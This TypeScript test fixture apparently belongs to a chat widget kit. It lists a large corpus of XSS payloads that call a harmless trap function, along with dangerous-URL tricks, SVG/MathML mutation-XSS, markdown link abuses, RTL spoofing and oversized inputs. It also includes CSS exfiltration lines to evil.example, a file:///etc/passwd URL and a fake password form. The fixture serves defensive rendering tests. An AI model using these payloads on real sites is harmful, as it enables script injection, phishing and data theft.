// Hostile content for the tests of every place a message is shown: the kit's widgets, the visitor
// page and the agent console. Test-only: src/test is left out of the build, the package's exports
// and its published files.
//
// Every payload that could run script calls the trap `__parleyHostile()` (or `alert`), so a test
// that installs the trap (see hostileChecks.ts) sees any script that ran. Payloads reached from
// a frame call `parent.__parleyHostile()`.

/** What a payload tries. */
export type HostileCategory =
  /** Script, event handlers, elements that load or submit: iframe, object, form, meta, base, style. */
  | 'script-injection'
  /** javascript:, data: and vbscript: URLs with case, entity, whitespace and control-character tricks. */
  | 'dangerous-url'
  /** SVG and MathML elements, namespace confusion and mutation-XSS patterns. */
  | 'svg-mathml'
  /** Markdown link and image tricks: inline, reference-style, autolinks, nested brackets, HTML inside. */
  | 'markdown'
  /** Right-to-left override and zero-width characters that disguise link text, names or schemes. */
  | 'spoofing'
  /** Very long and very deeply nested input that could freeze the page. */
  | 'oversized';

export interface HostilePayload {
  /** A short, unique description (used in test names). */
  name: string;
  category: HostileCategory;
  payload: string;
}

/** The trap a payload calls if it ever runs. */
export const TRAP = '__parleyHostile()';
const FROM_FRAME = `parent.${TRAP}`;

const base64 = (text: string) => btoa(text);
const HTML_DOC = `<script>${FROM_FRAME}</script>`;
const SVG_DOC = `<svg xmlns="http://www.w3.org/2000/svg" onload="${FROM_FRAME}"/>`;

const scriptInjection: Array<[string, string]> = [
  ['script element', `<script>${TRAP}</script>`],
  ['script element, upper case', `<SCRIPT>${TRAP}</SCRIPT>`],
  ['script with a data: src', `<script src="data:text/javascript,${TRAP}"></script>`],
  ['script split by a null character', `<scr\u0000ipt>${TRAP}</scr\u0000ipt>`],
  ['img onerror', `<img src=x onerror="${TRAP}">`],
  ['img onerror, unquoted and unclosed', `<img src=x onerror=${TRAP}//`],
  ['img onerror, mixed case', `<IMG SRC=x OnErRoR=${TRAP}>`],
  ['img onerror with entity-encoded code', '<img src=x onerror="&#95;&#95;parleyHostile&#40;&#41;">'],
  ['img onerror calling alert', '<img src=x onerror=alert(1)>'],
  ['img srcset with a javascript: candidate', `<img srcset="x 1x, javascript:${TRAP} 2x" onerror=${TRAP}>`],
  ['svg onload', `<svg onload=${TRAP}>`],
  ['svg/onload without a space', `<svg/onload=${TRAP}>`],
  ['body onload', `<body onload=${TRAP}>`],
  ['frameset onload', `<frameset onload=${TRAP}>`],
  ['iframe with a javascript: src', `<iframe src="javascript:${TRAP}"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>${FROM_FRAME}</script>"></iframe>`],
  ['iframe srcdoc with entities', `<iframe srcdoc="&lt;img src=x onerror=${FROM_FRAME}&gt;"></iframe>`],
  ['object with a javascript: data', `<object data="javascript:${TRAP}"></object>`],
  ['object with an HTML data: URL', `<object data="data:text/html,${HTML_DOC}"></object>`],
  ['embed with a javascript: src', `<embed src="javascript:${TRAP}">`],
  ['embed with an SVG data: URL', `<embed src="data:image/svg+xml;base64,${base64(SVG_DOC)}">`],
  [
    'form with a javascript: action',
    `<form action="javascript:${TRAP}"><input name=password><button>Verify your account</button></form>`,
  ],
  ['button formaction', `<form><button formaction="javascript:${TRAP}">Continue</button></form>`],
  ['input autofocus onfocus', `<input autofocus onfocus=${TRAP}>`],
  ['textarea autofocus onfocus', `<textarea autofocus onfocus=${TRAP}></textarea>`],
  ['details ontoggle', `<details open ontoggle=${TRAP}><summary>x</summary></details>`],
  ['video source onerror', `<video><source onerror=${TRAP}></video>`],
  ['audio onerror', `<audio src=x onerror=${TRAP}>`],
  ['video poster javascript:', `<video poster="javascript:${TRAP}"></video>`],
  ['marquee onstart', `<marquee onstart=${TRAP}>x</marquee>`],
  ['custom element onclick', `<x-card onclick=${TRAP}>Click me</x-card>`],
  ['draggable ondragstart', `<div draggable=true ondragstart=${TRAP}>drag me</div>`],
  ['meta refresh to javascript:', `<meta http-equiv="refresh" content="0;url=javascript:${TRAP}">`],
  ['meta refresh to a data: page', `<meta http-equiv="refresh" content="0;url=data:text/html,${HTML_DOC}">`],
  ['base href to javascript:', `<base href="javascript:${TRAP}//">`],
  ['base href to another site', '<base href="https://evil.example/">'],
  ['link stylesheet javascript:', `<link rel=stylesheet href="javascript:${TRAP}">`],
  ['style @import exfiltration', "<style>@import 'https://evil.example/steal.css';</style>"],
  [
    'style attribute-selector exfiltration',
    '<style>input[value^="a"]{background:url(https://evil.example/?a)}</style><input value=abc>',
  ],
  ['style attribute with a javascript: url()', `<div style="background:url(javascript:${TRAP})">x</div>`],
  ['style attribute expression()', `<div style="width:expression(${TRAP})">x</div>`],
  ['anchor with a javascript: href', `<a href="javascript:${TRAP}">Click me</a>`],
  ['anchor href with an entity-encoded control character', `<a href="&#14;javascript:${TRAP}">x</a>`],
  ['table background javascript:', `<table background="javascript:${TRAP}"><tr><td>x</td></tr></table>`],
  ['attribute breakout', `"><img src=x onerror=${TRAP}>`],
  ['single-quote breakout', `'><script>${TRAP}</script>`],
  ['textarea breakout', `</textarea><script>${TRAP}</script>`],
  ['title breakout', `</title><img src=x onerror=${TRAP}>`],
  ['comment confusion', `<!--<img src="--><img src=x onerror=${TRAP}//">`],
  ['template content', `<template><img src=x onerror=${TRAP}></template>`],
  ['template-engine expression', `{{constructor.constructor('${TRAP}')()}}`],
  ['template literal', `\${${TRAP}}`],
];

const dangerousUrl: Array<[string, string]> = [
  ['javascript:', `javascript:${TRAP}`],
  ['javascript: calling alert', 'javascript:alert(1)'],
  ['JaVaScRiPt: mixed case', `JaVaScRiPt:${TRAP}`],
  ['JAVASCRIPT: upper case', `JAVASCRIPT:${TRAP}`],
  ['javascript: after a space', ` javascript:${TRAP}`],
  ['javascript: after tabs and newlines', `\t\n \r javascript:${TRAP}`],
  ['javascript: after control characters', `\u0001\u0002\u001f javascript:${TRAP}`],
  ['javascript: after a null character', `\u0000javascript:${TRAP}`],
  ['java<tab>script:', `java\tscript:${TRAP}`],
  ['java<newline>script:', `java\nscript:${TRAP}`],
  ['java<carriage return>script:', `java\rscript:${TRAP}`],
  ['javascript<tab>:', `javascript\t:${TRAP}`],
  ['entity-encoded j', `&#106;avascript:${TRAP}`],
  ['hex-entity-encoded tab', `jav&#x09;ascript:${TRAP}`],
  ['&colon; entity', `javascript&colon;${TRAP}`],
  ['percent-encoded j', `%6Aavascript:${TRAP}`],
  ['javascript: with a comment and newline', `javascript://%0a${TRAP}`],
  [
    'javascript: polyglot',
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${TRAP}//'>`,
  ],
  ['data: HTML', `data:text/html,${HTML_DOC}`],
  ['data: HTML in base64', `data:text/html;base64,${base64(HTML_DOC)}`],
  ['DATA: upper case', `DATA:text/html,${HTML_DOC}`],
  ['data: SVG', `data:image/svg+xml,${SVG_DOC}`],
  ['data: SVG in base64', `data:image/svg+xml;base64,${base64(SVG_DOC)}`],
  ['data: JavaScript', `data:application/javascript,${TRAP}`],
  ['data: after a space and tab', ` \tdata:text/html,${HTML_DOC}`],
  ['vbscript:', 'vbscript:msgbox("hostile")'],
  ['VBScript: mixed case', 'VBScript:msgbox("hostile")'],
  ['file:', 'file:///etc/passwd'],
  ['view-source:', 'view-source:https://example.com/'],
  ['livescript:', `livescript:${TRAP}`],
  ['intent: with a javascript scheme', 'intent://x#Intent;scheme=javascript;end'],
  ['href attribute breakout inside a URL', `https://example.com/" onmouseover="${TRAP}`],
];

const svgMathml: Array<[string, string]> = [
  ['svg a xlink:href', `<svg><a xlink:href="javascript:${TRAP}"><text x="10" y="20">Click</text></a></svg>`],
  ['svg a href', `<svg><a href="javascript:${TRAP}"><text x="10" y="20">Click</text></a></svg>`],
  ['svg script', `<svg><script>${TRAP}</script></svg>`],
  ['svg script with a data: href', `<svg><script href="data:text/javascript,${TRAP}"/></svg>`],
  ['svg animate onbegin', `<svg><animate onbegin=${TRAP} attributeName=x dur=1s /></svg>`],
  [
    'svg set rewriting a link',
    `<svg><a><set attributeName=href to="javascript:${TRAP}" /><text x=10 y=20>Click</text></a></svg>`,
  ],
  [
    'svg use with a data: document',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${FROM_FRAME}'/></svg>#x"/></svg>`,
  ],
  [
    'svg foreignObject iframe',
    `<svg><foreignObject><iframe srcdoc="<script>${FROM_FRAME}</script>"></iframe></foreignObject></svg>`,
  ],
  ['svg image href javascript:', `<svg><image href="javascript:${TRAP}" /></svg>`],
  ['svg style holding an img', `<svg><style><img src=x onerror=${TRAP}></style></svg>`],
  [
    'math maction xlink:href',
    `<math><maction actiontype="statusline" xlink:href="javascript:${TRAP}">click</maction></math>`,
  ],
  ['math href', `<math href="javascript:${TRAP}">click</math>`],
  ['math mi xlink:href data:', `<math><mi xlink:href="data:text/html,${HTML_DOC}">click</mi></math>`],
  ['math mglyph style namespace confusion', `<math><mtext><table><mglyph><style><img src=x onerror=${TRAP}>`],
  [
    'math annotation-xml HTML',
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${TRAP}></annotation-xml></math>`,
  ],
  [
    'math form namespace confusion',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${TRAP}>`,
  ],
  ['noscript title mXSS', `<noscript><p title="</noscript><img src=x onerror=${TRAP}>">`],
  ['svg p style mXSS', `<svg></p><style><a id="</style><img src=x onerror=${TRAP}>">`],
];

const markdown: Array<[string, string]> = [
  ['inline link javascript:', `[Click here](javascript:${TRAP})`],
  ['inline link JAVASCRIPT:', `[Click here](JAVASCRIPT:${TRAP})`],
  ['inline link with an entity-encoded colon', `[Click here](javascript&#58;${TRAP})`],
  ['inline link with an entity-encoded j', `[Click here](&#x6A;avascript:${TRAP})`],
  ['inline link with an entity-encoded tab', `[Click here](jav&#x09;ascript:${TRAP})`],
  ['inline link with an escaped colon', `[Click here](javascript\\:${TRAP})`],
  ['inline link in angle brackets', `[Click here](<javascript:${TRAP}>)`],
  ['inline link after a newline', `[Click here](\njavascript:${TRAP})`],
  ['inline link with a title breakout', `[Help](https://example.com "title\\" onmouseover=${TRAP} x=\\"")`],
  ['inline link to a hash with a handler', `[Help](#" onclick="${TRAP})`],
  ['inline link data: HTML', `[Open](data:text/html;base64,${base64(HTML_DOC)})`],
  ['inline link vbscript:', '[Open](vbscript:msgbox(1))'],
  ['reference-style link', `[Click here][help]\n\n[help]: javascript:${TRAP}`],
  ['collapsed reference link with a title', `[Click][]\n\n[click]: javascript:${TRAP} "Help"`],
  ['shortcut reference link', `[support]\n\n[support]: data:text/html,${HTML_DOC}`],
  ['autolink javascript:', `<javascript:${TRAP}>`],
  ['autolink mixed case', `<JaVaScRiPt:${TRAP}>`],
  ['autolink data:', `<data:text/html;base64,${base64(HTML_DOC)}>`],
  ['image javascript:', `![Chart](javascript:${TRAP})`],
  ['image data: SVG', `![Chart](data:image/svg+xml;base64,${base64(SVG_DOC)})`],
  ['image with an alt breakout', `![x"onerror="${TRAP}](https://example.com/x.png)`],
  ['image with a src breakout', `![x](https://example.com/x.png"onerror="${TRAP})`],
  ['image reference javascript:', `![Chart][img]\n\n[img]: javascript:${TRAP}`],
  ['image inside a javascript: link', `[![Chart](javascript:${TRAP})](javascript:${TRAP})`],
  [
    'nested brackets',
    `[[[[x](javascript:${TRAP})](javascript:${TRAP})](javascript:${TRAP})](javascript:${TRAP})`,
  ],
  ['HTML inside emphasis', `**<img src=x onerror=${TRAP}>**`],
  ['HTML inside a blockquote', `> <iframe src="javascript:${TRAP}"></iframe>`],
  ['HTML inside a table', `| a |\n|---|\n| <img src=x onerror=${TRAP}> |`],
  [
    'HTML in a table header',
    `| <svg onload=${TRAP}> | <a href="javascript:${TRAP}">b</a> |\n| --- | --- |\n| 1 | 2 |`,
  ],
  [
    'javascript: link in a table cell',
    `| a | b |\n| :-- | --: |\n| [x](javascript:${TRAP}) | ![y](javascript:${TRAP}) |`,
  ],
  ['autolink in a table cell', `| a |\n| :-: |\n| <javascript:${TRAP}> |`],
  [
    'escaped pipe breaking out of a cell',
    `| a \\| <iframe src="javascript:${TRAP}"> |\n| --- |\n| b \\|\\| c |`,
  ],
  [
    'table alignment with a style breakout',
    `| a |\n| :-" style="background:url(javascript:${TRAP}) |\n| b |`,
  ],
  [
    'table under a paragraph line',
    `Sizes:\n| [a](javascript:${TRAP}) |\n| - |\n| <img src=x onerror=${TRAP}> |`,
  ],
  ['strikethrough around a javascript: link', `~~[x](javascript:${TRAP})~~ ~~<img src=x onerror=${TRAP}>~~`],
  [
    'task list with HTML and a javascript: link',
    `- [x] <img src=x onerror=${TRAP}>\n- [ ] [y](javascript:${TRAP})`,
  ],
  [
    'task list box as raw HTML',
    `- [ ] <input type="checkbox" onclick="${TRAP}" autofocus onfocus="${TRAP}">`,
  ],
  ['HTML inside a list', `- <svg onload=${TRAP}>\n- <a href="javascript:${TRAP}">b</a>`],
  ['HTML around markdown', `<a href="javascript:${TRAP}">[docs](https://example.com)</a>`],
  ['script in inline code', `\`<script>${TRAP}</script>\``],
  ['script in a fenced block', `\`\`\`html\n<script>${TRAP}</script>\n\`\`\``],
  ['bare URL followed by HTML', `https://example.com/<img src=x onerror=${TRAP}>`],
  ['bare www URL with a quote breakout', `www.example.com"onmouseover="${TRAP}`],
];

const spoofing: Array<[string, string]> = [
  ['right-to-left override in a URL', 'https://example.com/\u202Egnp.exe'],
  ['right-to-left override in a file name', 'invoice\u202Efdp.exe'],
  ['right-to-left override in a name', 'Support team\u202E (verified)'],
  ['right-to-left override before javascript:', `\u202Ejavascript:${TRAP}`],
  ['link text with a right-to-left override', `[https://bank.example/\u202Enigol](javascript:${TRAP})`],
  ['zero-width space inside javascript:', `java\u200Bscript:${TRAP}`],
  ['word joiner inside javascript:', `java\u2060script:${TRAP}`],
  ['byte-order mark before javascript:', `\uFEFFjavascript:${TRAP}`],
  ['zero-width space in link text', `[https://bank.example\u200B/login](javascript:${TRAP})`],
  ['zero-width space in a bare URL host', 'https://paypa\u200Bl.example/login'],
  ['byte-order mark in a bare URL host', 'https://ex\uFEFFample.com/'],
  ['unbalanced isolates and overrides', 'Order \u2066\u2067\u2068 shipped \u202D\u202E to you'],
  ['right-to-left mark in an HTML link', `<a href="javascript:${TRAP}">https://example.com\u200F\u202E</a>`],
];

/** A list nested `depth` levels deep, each level indented two spaces more. */
const nestedList = (depth: number) =>
  Array.from({ length: depth }, (_, level) => `${'  '.repeat(level)}- item`).join('\n');

const oversized: Array<[string, string]> = [
  ['100 000 characters of text', 'a'.repeat(100_000)],
  ['100 000 characters of words', 'word '.repeat(20_000)],
  ['a 100 000-character URL', `https://example.com/${'a'.repeat(100_000)}`],
  ['5 000 bare URLs', 'https://example.com/x '.repeat(5_000)],
  ['25 000 www. prefixes', 'www.'.repeat(25_000)],
  ['5 000 nested [', `${'['.repeat(5_000)}x${']'.repeat(5_000)}`],
  ['990 nested [', `${'['.repeat(990)}x${']'.repeat(990)}`],
  ['5 000 unclosed [', '['.repeat(5_000)],
  ['5 000 nested inline links', `${'[x]('.repeat(5_000)}javascript:${TRAP}${')'.repeat(5_000)}`],
  ['990 nested inline links', `${'[x]('.repeat(990)}javascript:${TRAP}${')'.repeat(990)}`],
  ['5 000 nested blockquotes', `${'>'.repeat(5_000)} deep`],
  ['5 000 nested blockquotes with spaces', `${'> '.repeat(5_000)}deep`],
  ['5 000 emphasis markers', `${'*'.repeat(5_000)}x${'*'.repeat(5_000)}`],
  ['50 000 emphasis markers', `${'*'.repeat(50_000)}x${'*'.repeat(50_000)}`],
  ['1 000 emphasis markers each side', `${'*'.repeat(1_000)}x${'*'.repeat(999)}`],
  ['5 000 underscores', `${'_'.repeat(5_000)}x${'_'.repeat(5_000)}`],
  ['5 000 backticks', '`'.repeat(5_000)],
  ['300 nested list items', nestedList(300)],
  ['138 nested list items', nestedList(138)],
  [
    'nested quotes in nested lists',
    Array.from({ length: 130 }, (_, level) => `${'  '.repeat(level)}- > x`).join('\n'),
  ],
  [
    '190 lines of deepening quotes',
    Array.from({ length: 190 }, (_, level) => `${'>'.repeat(level)} x`).join('\n'),
  ],
  ['5 000 nested div tags', '<div>'.repeat(5_000)],
  ['2 000 hostile img tags', `<img src=x onerror=${TRAP}>`.repeat(2_000)],
  // Chromium lays out each stacked mark: 10 000 cost seconds of pure layout per element on a
  // loaded machine, which tests the browser, not the kit.
  ['2 000 combining marks', `e${'\u0301'.repeat(2_000)}`],
  ['20 000 emoji', '\u{1F600}'.repeat(20_000)],
  ['100 000 less-than signs', '<'.repeat(100_000)],
  [
    'a table of 2 000 columns',
    `${'| a '.repeat(2_000)}|\n${'| - '.repeat(2_000)}|\n${'| x '.repeat(2_000)}|`,
  ],
  ['a table of 3 000 rows', `| a | b |\n| - | - |\n${'| x | y |\n'.repeat(3_000)}`],
  ['5 000 pipes', '|'.repeat(5_000)],
  ['5 000 tildes', '~'.repeat(5_000)],
];

const groups: Array<[HostileCategory, Array<[string, string]>]> = [
  ['script-injection', scriptInjection],
  ['dangerous-url', dangerousUrl],
  ['svg-mathml', svgMathml],
  ['markdown', markdown],
  ['spoofing', spoofing],
  ['oversized', oversized],
];

/** Every hostile payload, by category. */
export const HOSTILE_CORPUS: readonly HostilePayload[] = groups.flatMap(([category, entries]) =>
  entries.map(([name, payload]) => ({ name, category, payload })),
);

/** How many payloads each category holds. */
export function countByCategory(corpus: readonly HostilePayload[] = HOSTILE_CORPUS) {
  const counts: Partial<Record<HostileCategory, number>> = {};
  for (const { category } of corpus) counts[category] = (counts[category] ?? 0) + 1;
  return counts;
}

/**
 * Whether a URL found in rendered output is acceptable: http:, https:, mailto:, tel:, blob: (object
 * URLs the page made itself) or relative. Decided by the URL parser browsers use, so a scheme hidden
 * by case, whitespace or control characters is seen as the browser sees it. A URL the parser refuses
 * is refused here too. Self-contained (no outer reference) so it can be sent into a page.
 */
export function SAFE_URL(url: string): boolean {
  try {
    const { protocol } = new URL(url, 'https://relative.invalid/');
    return ['http:', 'https:', 'mailto:', 'tel:', 'blob:'].includes(protocol);
  } catch {
    return false;
  }
}
